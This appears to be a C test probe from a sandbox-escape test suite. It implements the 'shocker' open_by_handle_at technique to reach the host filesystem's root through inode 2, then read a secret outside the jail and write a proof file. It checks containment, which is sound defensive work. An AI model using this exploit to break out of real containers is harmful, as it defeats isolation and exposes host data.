/* open-by-handle: opens the filesystem's root directory by its inode number, the "shocker" exploit. */
#include "probe.h"

/* ext4 names an inode by number and generation; the root directory is inode 2, generation 0. */
#define ROOT_INODE 2

int main(int argc, char **argv) {
  probe_start(argc, argv, "open-by-handle");
  /* Any file of the jail is on the machine's disk, and a handle is only a number on that disk. */
  int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
  if (mount_fd < 0) {
    probe_blocked("open(\"/\")", errno);
    return 1;
  }
  union {
    struct file_handle h;
    char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } fh = {.h = {.handle_bytes = MAX_HANDLE_SZ}};
  int mount_id;
  /* The jail's own root, to learn how this filesystem encodes a handle; then the same handle, for inode 2. */
  if (name_to_handle_at(AT_FDCWD, "/", &fh.h, &mount_id, 0) != 0) {
    probe_blocked("name_to_handle_at(\"/\")", errno);
    return 1;
  }
  unsigned int ids[2] = {ROOT_INODE, 0};
  probe_say("the jail's root has a handle of type %d, %u bytes; trying inode %d", fh.h.handle_type, fh.h.handle_bytes, ROOT_INODE);
  if (fh.h.handle_bytes < sizeof ids) {
    probe_say("contained: a handle of an unknown shape");
    return 1;
  }
  memcpy(fh.h.f_handle, ids, sizeof ids);
  int root = open_by_handle_at(mount_fd, &fh.h, O_RDONLY | O_DIRECTORY);
  if (root < 0) {
    probe_blocked("open_by_handle_at(inode 2)", errno);
    probe_say("contained: the filesystem's root cannot be opened by its handle");
    return 1;
  }
  if (fchdir(root) != 0) {
    probe_blocked("fchdir(the filesystem's root)", errno);
    return 1;
  }
  if (probe_try_read("open_by_handle_at(inode 2 = the disk's root), then outside/secret", "outside/secret")) {
    probe_write_proof("outside/proof");
    return 0;
  }
  probe_say("contained: the filesystem's root holds no secret");
  return 1;
}
